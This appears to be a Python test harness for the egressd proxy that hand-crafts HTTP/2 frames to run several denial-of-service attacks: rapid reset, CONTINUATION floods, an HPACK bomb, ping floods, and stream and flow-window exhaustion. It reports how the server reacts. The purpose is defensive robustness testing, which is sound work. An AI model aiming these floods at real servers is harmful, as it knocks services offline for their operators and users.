#!/usr/bin/env python3
"""HTTP/2 abuse for the egressd e2e tests: frames written by hand (hpack for header blocks),
so the client can break the rules a library would not let it break. Run inside a sandbox.

  --connect ADDR:PORT --sni NAME --cafile FILE --authority NAME --mode MODE [--count N]
Modes:
  get            one GET /whoami; the response status (the connection works)
  rapid-reset    N x (HEADERS GET /drip + RST_STREAM CANCEL), as fast as TLS takes them
  continuation   HEADERS without END_HEADERS, then N CONTINUATION frames of literal fields
  hpack-bomb     one 4000-byte field added to the HPACK table, then N one-byte references
  streams        N POST /echo streams opened and left open (no END_STREAM)
  ping-flood     N PING frames, none of the acknowledgements read until the end
  window         INITIAL_WINDOW_SIZE 0, then N GET /big?n=4194304 streams, never read;
                 holds --hold seconds
Prints one JSON object: goaway (error code or null), goaway_debug, closed (the server
closed the connection), rst (RST_STREAM codes received, by stream count), responses
(streams that got a response HEADERS), statuses, data_bytes, error.
"""

import argparse
import json
import socket
import ssl
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream_id) + payload


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Reader:
    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.result = {"goaway": None, "goaway_debug": "", "closed": False, "rst": {},
                       "responses": 0, "statuses": [], "data_bytes": 0}
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536

    def pump(self, seconds, until=None):
        deadline = time.time() + seconds
        while time.time() < deadline:
            if until is not None and until(self.result):
                return
            self.sock.settimeout(max(0.01, deadline - time.time()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return
            except (ssl.SSLError, OSError) as e:
                self.result["closed"] = True
                self.result.setdefault("error", str(e))
                return
            if not chunk:
                self.result["closed"] = True
                return
            self.buf += chunk
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == GOAWAY:
                self.result["goaway"] = int.from_bytes(payload[4:8], "big")
                self.result["goaway_debug"] = payload[8:].decode("utf-8", "replace")
            elif ftype == RST_STREAM:
                code = str(int.from_bytes(payload[0:4], "big"))
                self.result["rst"][code] = self.result["rst"].get(code, 0) + 1
            elif ftype == HEADERS and stream:
                try:
                    fields = self.decoder.decode(payload)
                except Exception:  # noqa: BLE001 (trailers after a padded block etc.)
                    fields = []
                for name, value in fields:
                    if name in (":status", b":status"):
                        self.result["responses"] += 1
                        self.result["statuses"].append(int(value))
            elif ftype == DATA:
                self.result["data_bytes"] += length
            elif ftype == SETTINGS and not flags & ACK:
                self.sock.sendall(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                self.sock.sendall(frame(PING, ACK, 0, payload))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--connect", required=True)
    ap.add_argument("--sni", required=True)
    ap.add_argument("--cafile", required=True)
    ap.add_argument("--authority", required=True)
    ap.add_argument("--mode", required=True)
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--hold", type=float, default=2)
    args = ap.parse_args()
    host, port = args.connect.rsplit(":", 1)
    ctx = ssl.create_default_context(cafile=args.cafile)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host.strip("[]"), int(port)), timeout=10)
    sock = ctx.wrap_socket(raw, server_hostname=args.sni)
    out = {"alpn": sock.selected_alpn_protocol()}
    if out["alpn"] != "h2":
        out["error"] = "ALPN did not select h2"
        print(json.dumps(out))
        return
    encoder = hpack.Encoder()

    def request(path, method="GET"):
        return [(":method", method), (":scheme", "https"), (":authority", args.authority),
                (":path", path)]

    reader = Reader(sock)
    initial = [(0x3, 1000)]  # MAX_CONCURRENT_STREAMS (server push is off anyway)
    if args.mode == "window":
        initial.append((0x4, 0))  # INITIAL_WINDOW_SIZE
    sock.sendall(PREFACE + settings(initial))
    reader.pump(0.5, until=lambda r: False)
    mode, n = args.mode, args.count
    try:
        if mode == "get":
            sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                               encoder.encode(request("/whoami"))))
            reader.pump(10, until=lambda r: r["responses"] >= 1 and r["data_bytes"] > 0)
        elif mode == "rapid-reset":
            batch = b""
            for i in range(n):
                sid = 1 + 2 * i
                batch += frame(HEADERS, END_HEADERS | END_STREAM, sid,
                               encoder.encode(request("/drip")))
                batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 0x8))  # CANCEL
                if len(batch) > 16384:
                    sock.sendall(batch)
                    batch = b""
                    reader.pump(0.001, until=lambda r: r["goaway"] is not None)
                    if reader.result["goaway"] is not None or reader.result["closed"]:
                        break
            if batch:
                sock.sendall(batch)
            reader.pump(3, until=lambda r: r["goaway"] is not None and r["closed"])
        elif mode == "continuation":
            block = encoder.encode(request("/whoami"))
            sock.sendall(frame(HEADERS, END_STREAM, 1, block))
            field = b"\x00" + bytes([5]) + b"x-pad" + bytes([100]) + b"a" * 100
            for _ in range(n):
                sock.sendall(frame(CONTINUATION, 0, 1, field * 10))
                if reader.result["goaway"] is not None or reader.result["closed"]:
                    break
                reader.pump(0.001)
            reader.pump(3, until=lambda r: r["goaway"] is not None and r["closed"])
        elif mode == "hpack-bomb":
            block = encoder.encode(request("/whoami"))
            # Literal with incremental indexing, new name: 0x40, name, value (7-bit prefix
            # length; 4000 needs the multi-byte integer form).
            value = b"b" * 4000
            block += b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + bytes([
                (4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + value
            refs = b"\xbe" * min(n, 12000)  # index 62: the entry just added
            sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, block + refs))
            reader.pump(5, until=lambda r: r["goaway"] is not None and r["closed"])
        elif mode == "ping-flood":
            batch = frame(PING, 0, 0, b"12345678") * 256
            for _ in range(max(1, n // 256)):
                sock.sendall(batch)
            reader.pump(3, until=lambda r: r["goaway"] is not None and r["closed"])
        elif mode == "streams":
            for i in range(n):
                sock.sendall(frame(HEADERS, END_HEADERS, 1 + 2 * i,
                                   encoder.encode(request("/echo", "POST"))))
            reader.pump(args.hold)
        elif mode == "window":
            for i in range(n):
                sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
                                   encoder.encode(request("/big?n=4194304"))))
            reader.pump(args.hold)
        else:
            out["error"] = "unknown mode " + mode
    except (ssl.SSLError, OSError) as e:
        reader.result["closed"] = True
        reader.result["error"] = str(e)
    out.update(reader.result)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
